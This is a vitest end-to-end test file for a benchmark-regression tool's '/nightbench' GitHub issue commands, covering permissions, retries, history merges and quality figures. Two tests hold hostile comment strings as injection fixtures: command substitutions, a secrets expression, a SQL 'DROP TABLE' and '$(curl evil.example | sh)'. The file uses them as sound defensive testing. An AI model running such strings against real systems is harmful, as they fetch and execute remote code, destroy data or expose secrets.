/**
 * `/nightbench` comments end to end against the local GitHub-shaped server: a real history with
 * a planted regression, its issue opened by the real publish step, then the comment event, the
 * permission check through the API, and the effect on the episodes, the history and the issue.
 */
import { existsSync, writeFileSync } from 'node:fs';
import Database from 'better-sqlite3';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { LoadedConfig } from '../../src/config/load.js';
import { configSchema } from '../../src/config/schema.js';
import { detectRegressions } from '../../src/detect/index.js';
import { createGitHubClient } from '../../src/issues/github/client.js';
import { publishIssues } from '../../src/issues/publish.js';
import { mergeRunsInto } from '../../src/history/files.js';
import { openHistory } from '../../src/history/open.js';
import type { HistoryStore } from '../../src/history/store.js';
import { silentLog } from '../../src/log.js';
import { collectNightSummary } from '../../src/job-summary/summary-data.js';
import { renderNightSummary } from '../../src/job-summary/night-summary.js';
import { renderQualityPage } from '../../src/report/render-quality.js';
import { detectionQuality } from '../../src/detect/quality.js';
import { gitHubTracker } from '../../src/issues/github/tracker.js';
import { markers, readFingerprint } from '../../src/issues/markers.js';
import { runTriage, type TriageOutcome } from '../../src/triage/apply-command.js';
import { runCli } from '../helpers/cli.js';
import { FakeGitHub, fakeBotLogin, type FakeRole } from '../helpers/fake-github.js';
import { writeSyntheticHistory, type SyntheticHistory } from '../helpers/synthetic-history.js';
import { tempDir } from '../helpers/temp-dir.js';

const repository = 'acme/perf';
let dir: string;
let store: HistoryStore;
let history: SyntheticHistory;
let fake: FakeGitHub;
let loaded: LoadedConfig;

async function night(index: number) {
  const report = detectRegressions(store, loaded.config.detection, { now: history.nights[index] });
  return publishIssues({ report, store, loaded, env: { GITHUB_TOKEN: 't0ken' }, log: silentLog });
}

/** A person comments on issue #1; nightbench handles the event. */
async function comment(login: string, body: string, role?: FakeRole): Promise<TriageOutcome> {
  if (role) fake.setRole(repository, login, role);
  const written = fake.addComment(repository, 1, login, body);
  const client = createGitHubClient(loaded.config.github, 't0ken', silentLog);
  return runTriage(
    { client, store, log: silentLog },
    { repository, issueNumber: 1, defaultBranch: 'main', comment: { id: written.id, body, author: login, authorIsBot: login.endsWith('[bot]'), at: written.createdAt } },
  );
}

const issue = () => fake.issue(repository, 1);
const issueFingerprint = () => readFingerprint(issue().body)!;
const states = () => store.episodes.episodes().map((e) => e.state);
const quality = () => detectionQuality(store.episodes.episodes(), store.triage.triageEvents(), { now: new Date('2026-12-31T00:00:00Z'), threshold: () => 0.1 });

beforeEach(async () => {
  dir = tempDir('nightbench-triage-');
  store = openHistory(path.join(dir, 'history.sqlite'));
  // Two workloads slow down 2x on night 8 (one issue), and come back on night 10.
  history = writeSyntheticHistory(store, {
    seed: 11, workloads: ['sum', 'shuffle'], metrics: [{ name: 'wall_time', unit: 's' }], nights: 12, repeats: 5, noise: 0.02, firstNight: '2026-11-20',
    changes: ['sum', 'shuffle'].map((workload) => ({ workload, metric: 'wall_time', night: 8, factor: 2, recoversAt: 10 })),
  });
  fake = await new FakeGitHub().start();
  fake.addRepository(repository);
  loaded = { config: configSchema.parse({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }), baseDir: dir };
  fake.now = new Date(`${history.nights[8]}T06:00:00Z`);
  for (let i = 0; i <= 8; i++) await night(i);
  expect(fake.issues(repository)).toHaveLength(1);
  expect(states()).toEqual(['open', 'open']);
  fake.now = new Date(`${history.nights[8]}T10:00:00Z`);
});

afterEach(async () => {
  store.close();
  await fake.stop();
});

describe('/nightbench commands on a regression issue', () => {
  it('accept from a maintainer: the episodes end accepted, the issue closes labelled, the next night leaves it closed', async () => {
    const before = fake.requests.length;
    const outcome = await comment('mia', '/nightbench accept', 'maintain');
    expect(outcome).toMatchObject({ result: 'done', command: 'accept', episodes: 2 });
    expect(fake.requests.slice(before).map((r) => `${r.method} ${r.path.replace(`/repos/${repository}`, '')}`)).toEqual([
      'GET /issues/1', 'GET /user', 'GET /issues/1/comments', 'GET /collaborators/mia/permission', 'POST /issues/1/labels', 'PATCH /issues/1', 'POST /issues/1/comments',
    ]);
    expect(states()).toEqual(['accepted', 'accepted']);
    expect(issue()).toMatchObject({ state: 'closed', state_reason: 'completed' });
    expect(issue().labels).toContain('nightbench:accepted');
    expect(issue().comments.at(-1)).toMatchObject({ login: fakeBotLogin });
    expect(issue().comments.at(-1)!.body).toMatch(/^<!-- nightbench:reply-to=\d+ -->\n@mia Accepted as intended/);
    expect(store.triage.triageEvents()).toMatchObject([{ issueNumber: 1, command: 'accept', author: 'mia', issueOpenedAt: `${history.nights[8]}T06:00:00.000Z` }]);
    expect(quality().all).toMatchObject({ opened: 1, truePositive: 1, falsePositive: 0, precision: 1, medianTriageHours: 4 });

    const comments = issue().comments.length;
    const next = await night(9);
    expect(next.actions).toEqual([]);
    expect(fake.issues(repository)).toHaveLength(1);
    expect(issue()).toMatchObject({ state: 'closed' });
    expect(issue().comments).toHaveLength(comments);
  });

  it('false-alarm from an admin: a false positive in the history and the precision, the issue closed as not planned', async () => {
    const outcome = await comment('ana', '/nightbench false-alarm', 'admin');
    expect(outcome).toMatchObject({ result: 'done', command: 'false-alarm', episodes: 2 });
    expect(issue()).toMatchObject({ state: 'closed', state_reason: 'not_planned' });
    expect(issue().labels).toContain('nightbench:false-alarm');
    const falseAlarms = store.triage.falseAlarmEpisodes();
    expect(falseAlarms.map((f) => `${f.workload} ${f.metric} #${f.issueNumber}`).sort()).toEqual(['shuffle wall_time #1', 'sum wall_time #1']);
    expect(falseAlarms.every((f) => f.firstBadNight === history.nights[8] && f.ratio > 1.5 && f.baselineNoise > 0)).toBe(true);
    expect(quality().all).toMatchObject({ truePositive: 0, falsePositive: 1, precision: 0 });
    expect(quality().falseAlarms.map((f) => f.workload).sort()).toEqual(['shuffle', 'sum']);
  });

  /** A writer's command on a broken workload's issue (opened as the broken publishing step does). */
  async function onBrokenIssue(body: string): Promise<{ outcome: TriageOutcome; number: number }> {
    const client = createGitHubClient(loaded.config.github, 't0ken', silentLog);
    const [owner, repo] = repository.split('/') as [string, string];
    const opened = await client.rest.issues.create({ owner, repo, title: 'Broken: sum (dask) fails since abc1234', body: `${markers.fingerprint('b40ce4')}\nsum fails`, labels: ['broken', 'dask'] });
    fake.setRole(repository, 'wes', 'write');
    const written = fake.addComment(repository, opened.data.number, 'wes', body);
    const outcome = await runTriage(
      { client, store, log: silentLog },
      { repository, issueNumber: opened.data.number, defaultBranch: 'main', comment: { id: written.id, body, author: 'wes', authorIsBot: false, at: written.createdAt } },
    );
    return { outcome, number: opened.data.number };
  }

  it('bisect on a broken workload\'s issue (no episodes) dispatches bisect.yml with its number too', async () => {
    const { outcome, number } = await onBrokenIssue('/nightbench bisect');
    expect(outcome).toMatchObject({ result: 'done', command: 'bisect', dispatched: { workflow: 'bisect.yml', inputs: { issue: String(number), mode: 'bisect' } } });
    expect(states()).toEqual(['open', 'open']);
  });

  it('accept on a broken workload\'s issue changes nothing and says only bisect applies', async () => {
    const { outcome, number } = await onBrokenIssue('/nightbench accept');
    expect(outcome).toMatchObject({ result: 'not-for-broken', command: 'accept' });
    expect(outcome.reply).toContain('only `/nightbench bisect` applies');
    expect(fake.issue(repository, number).state).toBe('open');
    expect(store.triage.triageEvents()).toEqual([]);
  });

  it.each(['bisect', 'rerun'] as const)('%s from a writer dispatches bisect.yml on the default branch with the issue and the mode', async (mode) => {
    const outcome = await comment('wes', `/nightbench ${mode}`, 'write');
    expect(outcome).toMatchObject({ result: 'done', command: mode, dispatched: { workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode } } });
    expect(fake.dispatches(repository)).toEqual([{ workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode } }]);
    expect(fake.requests.filter((r) => r.method === 'POST' && r.path === `/repos/${repository}/actions/workflows/bisect.yml/dispatches`)).toHaveLength(1);
    expect(states()).toEqual(['open', 'open']);
    expect(issue().state).toBe('open');
    expect(store.triage.triageEvents().map((e) => e.command)).toEqual([mode]);
  });

  it('fixed-by records the fix; the nightly closes the issue naming it once the series recover, and the verdict is a fixed true positive', async () => {
    const outcome = await comment('mia', '/nightbench fixed-by 0123ABC thanks', 'maintain');
    expect(outcome).toMatchObject({ result: 'done', command: 'fixed-by' });
    expect(issue().state).toBe('open');
    expect(issue().labels).toContain('nightbench:fix-recorded');
    expect(store.triage.triageEvents()).toMatchObject([{ command: 'fixed-by', argument: '0123abc' }]);
    expect(quality().all).toMatchObject({ open: 1, truePositive: 0 });

    await night(9);
    await night(10);
    const recovered = await night(11);
    expect(recovered.actions.map((a) => a.kind)).toEqual(['close']);
    expect(issue().state).toBe('closed');
    expect(issue().comments.at(-1)!.body).toContain('Fixed by `0123abc`');
    expect(quality().all).toMatchObject({ truePositive: 1, falsePositive: 0, precision: 1, open: 0 });
    expect(quality().issues[0]).toMatchObject({ reason: 'fixed', fixedBy: '0123abc' });
    expect(quality().all.medianFixDays).toBeGreaterThan(2);
  });

  it.each([
    ['an outsider', 'olly', undefined],
    ['a reader', 'rita', 'read'],
    ['a triager', 'tom', 'triage'],
  ] as const)('%s gets a polite reply and nothing changes', async (_who, login, role) => {
    const before = fake.writes().length;
    const outcome = await comment(login, '/nightbench accept', role);
    expect(outcome.result).toBe('refused');
    expect(states()).toEqual(['open', 'open']);
    expect(issue().state).toBe('open');
    expect(store.triage.triageEvents()).toEqual([]);
    expect(fake.dispatches(repository)).toEqual([]);
    expect(fake.writes().slice(before).map((r) => `${r.method} ${r.path}`)).toEqual([`POST /repos/${repository}/issues/1/comments`]);
    expect(issue().comments.at(-1)!.body).toContain(`@${login} thank you. Only people with write, maintain or admin access`);
    expect(fake.requests.some((r) => r.path === `/repos/${repository}/collaborators/${login}/permission`)).toBe(true);
  });

  it('answers an unknown command with the list of commands, and changes nothing', async () => {
    const outcome = await comment('mia', '/nightbench revert-it-all', 'maintain');
    expect(outcome.result).toBe('unknown-command');
    for (const usage of ['/nightbench accept', '/nightbench false-alarm', '/nightbench bisect', '/nightbench rerun', '/nightbench fixed-by SHA']) expect(issue().comments.at(-1)!.body).toContain(`\`${usage}\``);
    expect(states()).toEqual(['open', 'open']);
    expect(store.triage.triageEvents()).toEqual([]);
  });

  it('acts once on a comment handled twice (a workflow run again), and never on its own replies or plain comments', async () => {
    await comment('mia', '/nightbench bisect', 'maintain');
    const client = createGitHubClient(loaded.config.github, 't0ken', silentLog);
    const first = issue().comments[0]!;
    const again = await runTriage({ client, store, log: silentLog }, { repository, issueNumber: 1, defaultBranch: 'main', comment: { id: first.id, body: first.body, author: 'mia', authorIsBot: false, at: first.createdAt } });
    expect(again.result).toBe('already-answered');
    expect(fake.dispatches(repository)).toHaveLength(1);
    const replies = issue().comments.length;
    expect((await comment(fakeBotLogin, issue().comments.at(-1)!.body)).result).toBe('not-a-command');
    expect((await comment('mia', 'Looks like the scheduler change. /nightbench is great', 'maintain')).result).toBe('not-a-command');
    expect(issue().comments.length).toBe(replies + 2);
  });
});

describe('a command racing the nightly\'s save (the triage job\'s copy of the history predates the issue)', () => {
  /** The history as the triage job fetched it: a copy of tonight's, changed by `staleness` to what the last save held. */
  function triageCopy(staleness: string): { file: string; copy: HistoryStore } {
    const file = path.join(dir, 'triage.sqlite');
    const db = new Database(path.join(dir, 'history.sqlite'));
    db.prepare('VACUUM INTO ?').run(file);
    db.close();
    const stale = new Database(file);
    stale.exec(staleness);
    stale.close();
    return { file, copy: openHistory(file) };
  }
  const triage = async (copy: HistoryStore, login: string, body: string, role: FakeRole) => {
    fake.setRole(repository, login, role);
    const written = fake.addComment(repository, 1, login, body);
    return runTriage(
      { client: createGitHubClient(loaded.config.github, 't0ken', silentLog), store: copy, log: silentLog },
      { repository, issueNumber: 1, defaultBranch: 'main', comment: { id: written.id, body, author: login, authorIsBot: false, at: written.createdAt } },
    );
  };

  it('episodes saved without their issue number are found by the issue\'s fingerprint, numbered and accepted; an improvement of the same range is not', async () => {
    // The improvement: a twin of sum's episode on another series, of the same range and night.
    const { copy } = triageCopy(`UPDATE regressions SET issue_number = NULL;
      CREATE TEMP TABLE twin AS SELECT * FROM regressions WHERE workload = 'sum';
      UPDATE twin SET id = (SELECT max(id) + 1 FROM regressions), kind = 'improvement', fingerprint = 'improved-twin', workload = 'sum_improved', series_key = replace(series_key, '"sum"', '"sum_improved"');
      INSERT INTO regressions SELECT * FROM twin;`);
    try {
      const outcome = await triage(copy, 'mia', '/nightbench accept', 'maintain');
      expect(outcome).toMatchObject({ result: 'done', command: 'accept', episodes: 2 });
      expect(outcome.pending).toBeUndefined();
      expect(copy.episodes.episodes().map((e) => `${e.kind} ${e.state} #${e.issueNumber}`)).toEqual(['regression accepted #1', 'regression accepted #1', 'improvement open #undefined']);
    } finally {
      copy.close();
    }
  });

  it('a false alarm on an issue whose episodes the copy lacks is recorded, closes the issue, and reaches the episodes once the histories merge', async () => {
    const { file, copy } = triageCopy('DELETE FROM regressions');
    try {
      const outcome = await triage(copy, 'ana', '/nightbench false-alarm', 'admin');
      expect(outcome).toMatchObject({ result: 'done', command: 'false-alarm', episodes: 0, pending: true });
      expect(issue()).toMatchObject({ state: 'closed', state_reason: 'not_planned' });
      expect(issue().comments.at(-1)!.body).toContain("does not hold #1's series yet");
      expect(copy.triage.triageEvents()).toMatchObject([{ issueNumber: 1, command: 'false-alarm', episodes: [] }]);
    } finally {
      copy.close();
    }
    store.close();
    mergeRunsInto(path.join(dir, 'history.sqlite'), file);
    store = openHistory(path.join(dir, 'history.sqlite'));
    expect(store.triage.falseAlarmEpisodes().map((f) => `${f.workload} #${f.issueNumber}`).sort()).toEqual(['shuffle #1', 'sum #1']);
    expect(quality().all).toMatchObject({ truePositive: 0, falsePositive: 1 });
    // The next night finds the issue closed by a maintainer's command and ends its episodes.
    await night(9);
    expect(states()).toEqual(['accepted', 'accepted']);
    expect(issue().state).toBe('closed');
  });

  it('a bisect on such an issue is dispatched and recorded', async () => {
    const { copy } = triageCopy('DELETE FROM regressions');
    try {
      const outcome = await triage(copy, 'wes', '/nightbench bisect', 'write');
      expect(outcome).toMatchObject({ result: 'done', command: 'bisect', pending: true, dispatched: { inputs: { issue: '1', mode: 'bisect' } } });
      expect(fake.dispatches(repository)).toHaveLength(1);
      expect(copy.triage.triageEvents().map((e) => e.key)).toEqual([expect.stringMatching(/^comment:\d+$/)]);
    } finally {
      copy.close();
    }
  });
});

describe('triage that always finishes', () => {
  const requests = (method: string, route: string) => fake.requests.filter((r) => r.method === method && r.path === `/repos/${repository}${route}`).length;
  const ownReplies = () => issue().comments.filter((c) => c.login === fakeBotLogin && c.body.includes('nightbench:reply-to='));
  /** The workflow run again on the same comment. */
  const again = (written: { id: number; body: string; createdAt: string }, author: string) =>
    runTriage(
      { client: createGitHubClient(loaded.config.github, 't0ken', silentLog), store, log: silentLog },
      { repository, issueNumber: 1, defaultBranch: 'main', comment: { id: written.id, body: written.body, author, authorIsBot: false, at: written.createdAt } },
    );

  it('a close GitHub keeps refusing leaves the verdict recorded; the run again closes and replies once, and labels nothing twice', async () => {
    fake.failOn('PATCH', /\/issues\/1$/, 1 + loaded.config.github.retries);
    await expect(comment('mia', '/nightbench accept', 'maintain')).rejects.toMatchObject({ kind: 'github', message: expect.stringContaining('closing #1') });
    expect(states()).toEqual(['accepted', 'accepted']);
    expect(store.triage.triageEvents().map((e) => e.command)).toEqual(['accept']);
    expect(issue()).toMatchObject({ state: 'open' });
    expect(ownReplies()).toEqual([]);

    const written = issue().comments.find((c) => c.login === 'mia')!;
    expect(await again(written, 'mia')).toMatchObject({ result: 'done', command: 'accept', resumed: true });
    expect(issue()).toMatchObject({ state: 'closed', state_reason: 'completed' });
    expect(ownReplies()).toHaveLength(1);
    expect(requests('POST', '/issues/1/labels')).toBe(1);
    expect(store.triage.triageEvents()).toHaveLength(1);

    expect((await again(written, 'mia')).result).toBe('already-answered');
    expect(ownReplies()).toHaveLength(1);
  });

  it('a bisect whose reply fails is dispatched once: the run again only replies', async () => {
    fake.failOn('POST', /\/issues\/1\/comments$/, 1 + loaded.config.github.retries);
    await expect(comment('wes', '/nightbench bisect', 'write')).rejects.toMatchObject({ kind: 'github' });
    expect(fake.dispatches(repository)).toHaveLength(1);
    const written = issue().comments.find((c) => c.login === 'wes')!;
    expect(await again(written, 'wes')).toMatchObject({ result: 'done', command: 'bisect', resumed: true });
    expect(fake.dispatches(repository)).toHaveLength(1);
    expect(ownReplies()).toHaveLength(1);
  });

  it('a reply marker typed by anyone else does not answer a command', async () => {
    fake.setRole(repository, 'mia', 'maintain');
    const written = fake.addComment(repository, 1, 'mia', '/nightbench false-alarm');
    fake.addComment(repository, 1, 'olly', `<!-- nightbench:reply-to=${written.id} -->\nhandled already`);
    expect(await again(written, 'mia')).toMatchObject({ result: 'done', command: 'false-alarm' });
    expect(issue()).toMatchObject({ state: 'closed', state_reason: 'not_planned' });
  });

  it('night and recovery markers count only in nightbench\'s own comments', async () => {
    fake.addComment(repository, 1, 'olly', `${markers.night(history.nights[9]!)}\n${markers.recovered}`);
    const [found] = await gitHubTracker(createGitHubClient(loaded.config.github, 't0ken', silentLog), repository, loaded.config.github.labels).find([issueFingerprint()]);
    expect(found).toMatchObject({ closedByNightbench: false });
    expect(found!.reportedNights).not.toContain(history.nights[9]);
  });

  it('the token\'s own login (GET /user) is nightbench\'s when GitHub answers it', async () => {
    fake.tokenLogin = 'perf-robot';
    const outcome = await comment('mia', '/nightbench fixed-by 0123abc', 'maintain');
    expect(outcome.result).toBe('done');
    expect(issue().comments.at(-1)).toMatchObject({ login: 'perf-robot' });
    const written = issue().comments.find((c) => c.login === 'mia')!;
    expect((await again(written, 'mia')).result).toBe('already-answered');
    // Another bot's marker is not the token's own.
    const next = fake.addComment(repository, 1, 'mia', '/nightbench fixed-by 4567def');
    fake.addComment(repository, 1, fakeBotLogin, `<!-- nightbench:reply-to=${next.id} -->`);
    expect(await again(next, 'mia')).toMatchObject({ result: 'done', command: 'fixed-by' });
  });
});

describe('verdicts in the figures', () => {
  const summary = () => renderNightSummary(collectNightSummary(store, { night: history.nights[8], detect: false }));
  const page = () => renderQualityPage(quality(), [], '2026-12-31T00:00:00Z', (n) => `https://github.example/issues/${n}`);

  it('a verdict changes the precision in the night\'s summary and on the Detection quality page', async () => {
    expect(summary()).toContain('### Detection quality\n\n1 issue opened · precision — (0 true, 0 false positives) · 0 closed without a verdict · 1 open');
    expect(page()).toContain('id="quality-all" data-precision=""');
    await comment('ana', '/nightbench false-alarm', 'admin');
    expect(summary()).toContain('1 issue opened · precision 0% (0 true, 1 false positive) · 0 closed without a verdict · 0 open');
    expect(summary()).toMatch(/\| dask \| 1 \| 0 \| 1 \| 0 \| 0 \| 0% \| 4\.0 h \| — \|/);
    expect(summary()).toContain('Most false alarms:\n- dask/');
    expect(page()).toContain('id="quality-all" data-precision="0"');
    expect(page()).toMatch(/<tr data-workload="(sum|shuffle)" data-advice="(more-repeats|higher-threshold)">/);
  });
});

describe('nightbench triage (the CLI, as the workflow runs it)', () => {
  it('reads the issue_comment event from GITHUB_EVENT_PATH and keeps a hostile comment as text', async () => {
    fake.setRole(repository, 'mia', 'maintain');
    const marker = path.join(dir, 'pwned');
    const body = `/nightbench false-alarm $(touch ${marker}) \`touch ${marker}\` \${{ secrets.GITHUB_TOKEN }} '; DROP TABLE regressions; --`;
    const written = fake.addComment(repository, 1, 'mia', body);
    const event = path.join(dir, 'event.json');
    writeFileSync(event, JSON.stringify({
      action: 'created',
      issue: { number: 1, title: 'Performance regression', body: issue().body },
      comment: { id: written.id, body, user: { login: 'mia', type: 'User' }, created_at: written.createdAt },
      repository: { full_name: repository, default_branch: 'main' },
    }));
    const config = path.join(dir, 'nightbench.config.json');
    writeFileSync(config, JSON.stringify({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }));
    store.close();
    const result = await runCli(['triage', '--config', config, '--db', path.join(dir, 'history.sqlite'), '--json'], { cwd: dir, env: { GITHUB_TOKEN: 't0ken', GITHUB_EVENT_PATH: event } });
    store = openHistory(path.join(dir, 'history.sqlite'));
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('mia gave false-alarm on #1 (2 episodes)');
    expect(JSON.parse(result.stdout)).toMatchObject({ result: 'done', command: 'false-alarm', episodes: 2 });
    expect(existsSync(marker)).toBe(false);
    expect(store.triage.triageEvents()[0]!.argument).toBe(body.slice('/nightbench false-alarm '.length));
    expect(store.episodes.episodes()).toHaveLength(2);
    // The reply names nothing of the comment's text.
    expect(issue().comments.at(-1)!.body).not.toMatch(/touch|secrets|DROP/);
    expect(issue().state).toBe('closed');
  });

  it('by hand: reads a comment by id from GitHub; a bad event file is one clear line and exit 2', async () => {
    fake.setRole(repository, 'wes', 'write');
    const written = fake.addComment(repository, 1, 'wes', '/nightbench rerun');
    const config = path.join(dir, 'nightbench.config.json');
    writeFileSync(config, JSON.stringify({ github: { repository, apiUrl: fake.baseUrl, waitUnitMs: 1, writeSpacingMs: 0, notifySpacingMs: 0 } }));
    const db = path.join(dir, 'history.sqlite');
    const byId = await runCli(['triage', '--config', config, '--db', db, '--issue', '1', '--comment-id', String(written.id)], { cwd: dir, env: { GITHUB_TOKEN: 't0ken', GITHUB_EVENT_PATH: undefined } });
    expect(byId.code, byId.stderr).toBe(0);
    expect(byId.stdout).toBe('#1: done (rerun, 2 episodes)\n');
    expect(fake.dispatches(repository)).toEqual([{ workflow: 'bisect.yml', ref: 'main', inputs: { issue: '1', mode: 'rerun' } }]);

    const event = path.join(dir, 'event.json');
    writeFileSync(event, JSON.stringify({ action: 'created', issue: { number: 1 }, comment: { id: 5, body: '/nightbench accept' } }));
    const bad = await runCli(['triage', '--config', config, '--db', db, '--event', event], { cwd: dir, env: { GITHUB_TOKEN: 't0ken' } });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe(`nightbench: issue_comment event ${event}: comment.user: Invalid input: expected object, received undefined (and 2 more)\n`);
    expect(states()).toEqual(['open', 'open']);
  });

  it('refuses a fixed-by whose commit is a command substitution, saying what a commit looks like', async () => {
    const outcome = await comment('mia', '/nightbench fixed-by $(curl evil.example | sh)', 'maintain');
    expect(outcome.result).toBe('invalid');
    expect(issue().comments.at(-1)!.body).toContain('fixed-by needs the fixing commit');
    expect(issue().comments.at(-1)!.body).not.toContain('curl');
    expect(store.triage.triageEvents()).toEqual([]);
  });
});
